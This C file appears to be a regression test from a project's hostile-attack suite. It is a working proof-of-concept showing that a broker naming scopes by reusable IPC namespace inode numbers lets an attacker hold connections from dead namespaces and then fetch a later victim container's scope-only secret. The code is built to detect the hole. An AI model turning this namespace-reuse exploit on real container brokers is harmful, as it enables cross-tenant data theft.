// SPDX-License-Identifier: MIT
/*
 * Attack: the broker names a scope by its IPC namespace's (st_dev, st_ino)
 * read at accept, and keeps the scope while any connection refers to it,
 * without pinning the namespace.  Namespace inode numbers are reused (the
 * kernel hands out the lowest free one).  So an unprivileged user creates
 * user+IPC namespaces, connects from each, passes the connections out and
 * lets the namespaces die; a container created later by another user gets
 * one of those inode numbers, and its clients land in the attacker's
 * still-open scope: the attacker fetches what the victim published for
 * its own container only (NVB_ACCESS_SCOPE), watches it, squats its names.
 *
 * Build and run: make check-attacks (tests/hostile/run-attacks.sh).
 * Runs as root (it becomes uids 2003 and 2002), against the broker named
 * in argv[1].
 * Exit 0: the attacker got the victim's file (the hole); 1: not; 2: setup failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "nvbridge.h"
#include "hostile.h"

#define K 16

static int send_fd(int s, int fd, unsigned long ino)
{
	union { struct cmsghdr c; char b[CMSG_SPACE(sizeof(int))]; } cm;
	struct iovec iov = { &ino, sizeof(ino) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cm.b,
			    .msg_controllen = sizeof(cm.b) };

	memset(&cm, 0, sizeof(cm));
	cm.c.cmsg_level = SOL_SOCKET;
	cm.c.cmsg_type = SCM_RIGHTS;
	cm.c.cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(&cm.c), &fd, sizeof(int));
	return sendmsg(s, &m, 0) < 0 ? -1 : 0;
}

static int recv_fd(int s, unsigned long *ino)
{
	union { struct cmsghdr c; char b[CMSG_SPACE(sizeof(int))]; } cm;
	struct iovec iov = { ino, sizeof(*ino) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cm.b,
			    .msg_controllen = sizeof(cm.b) };
	int fd = -1;

	if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m))
		return -1;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	return fd;
}

static unsigned long ipc_ino(void)
{
	struct stat st;

	return stat("/proc/self/ns/ipc", &st) ? 0 : (unsigned long)st.st_ino;
}

/* a fresh user + IPC namespace, as an unprivileged container runtime makes */
static int new_container(uid_t u)
{
	if ((geteuid() != u && become(u)) || unshare(CLONE_NEWUSER | CLONE_NEWIPC))
		return -1;
	return prctl(PR_SET_DUMPABLE, 1);
}

int main(int argc, char **argv)
{
	char dir[] = "/tmp/nvb-ipcreuse.XXXXXX", sock[128];
	int ready[2], vpipe[2], go2[2], st;
	pid_t broker, att, vic;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2 || !mkdtemp(dir) || chmod(dir, 0755) || pipe2(ready, O_CLOEXEC) || pipe2(vpipe, O_CLOEXEC) || pipe2(go2, O_CLOEXEC))
		return 2;
	snprintf(sock, sizeof(sock), "%s/s.sock", dir);
	broker = start_broker_at(argv[1], sock);

	att = fork();
	if (att == 0) {		/* the attacker, uid 2003, in the host namespaces */
		int sp[2], go[2], conns[K], got = 0;
		unsigned long inos[K];
		char c;

		close(vpipe[1]);
		if (become(UID_ATTACK) || socketpair(AF_UNIX, SOCK_DGRAM, 0, sp) || pipe(go))
			_exit(2);
		for (int i = 0; i < K; i++)
			if (fork() == 0) {
				int s;

				close(go[1]);
				if (new_container(UID_ATTACK)) { perror("container"); _exit(2); }
				if ((s = rconnect()) < 0 || rhello(s, -1) ||
				    send_fd(sp[1], s, ipc_ino()))
					_exit(2);
				close(s);
				if (read(go[0], &c, 1) < 0)
					_exit(2);
				_exit(0);	/* the namespace dies with us; the connection lives on */
			}
		close(go[0]);
		for (int i = 0; i < K; i++)
			if ((conns[i] = recv_fd(sp[0], &inos[i])) < 0 && (printf("recv\n"), 1))
				_exit(2);
		close(go[1]);
		while (wait(NULL) > 0)
			;
		printf("attacker: holds %d connections of dead IPC namespaces, inos %lu..%lu\n",
		       K, inos[0], inos[K - 1]);
		if (write(ready[1], "x", 1) != 1 || read(go2[0], &c, 1) != 1)
			_exit(2);
		/* the victim's container published: look in every scope we kept */
		for (int i = 0; i < K; i++) {
			struct nvbridge_wire_hdr h;
			struct nvbridge_fetch f;
			int fd;

			if (rfetch_req(conns[i], 10, "secret.weights", 0, 0) ||
			    rrecv(conns[i], &h, &f, sizeof(f), &fd, 3000))
				continue;
			if (!h.result && fd >= 0) {
				char buf[64] = "";

				if (pread(fd, buf, sizeof(buf) - 1, 0) < 0)
					strcpy(buf, "?");
				printf("attacker: FETCH secret.weights through the scope of dead ns %lu: "
				       "\"%s\", publisher uid %u\n", inos[i], buf, f.uid);
				got = 1;
			}
		}
		_exit(got ? 0 : 1);
	}
	{
		char c;

		if (read(ready[0], &c, 1) != 1)
			return 2;
	}
	usleep(500000);		/* the kernel frees an IPC namespace from a work item */
	vic = fork();
	if (vic == 0) {		/* the victim, uid 2002, starts a container later */
		int s, fd = memfd_create("secret", 0), rfd;
		struct nvbridge_wire_hdr h;

		if (new_container(UID_VICTIM) || (s = rconnect()) < 0 || rhello(s, -1) ||
		    write(fd, "victim's model weights", 22) != 22) {
			perror("victim setup");
			_exit(2);
		}
		printf("victim: new container, IPC ns %lu, publishes secret.weights (scope only)\n",
		       ipc_ino());
		if (rpublish(s, 1, "secret.weights", fd, NVBRIDGE_ACCESS_SCOPE) ||
		    rrecv(s, &h, NULL, 0, &rfd, 3000) || h.result)
			_exit(2);
		if (write(vpipe[1], "x", 1) != 1)
			_exit(2);
		pause();
		_exit(0);
	}
	{
		char c;

		close(vpipe[1]);
		if (read(vpipe[0], &c, 1) != 1 || write(go2[1], "x", 1) != 1)
			return 2;
	}
	waitpid(att, &st, 0);
	kill(vic, SIGKILL);
	kill(broker, SIGTERM);
	waitpid(vic, NULL, 0);
	waitpid(broker, NULL, 0);
	unlink(sock);
	rmdir(dir);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		printf("the victim's container did not land in an attacker-held scope\n");
	return WIFEXITED(st) ? WEXITSTATUS(st) : 2;
}
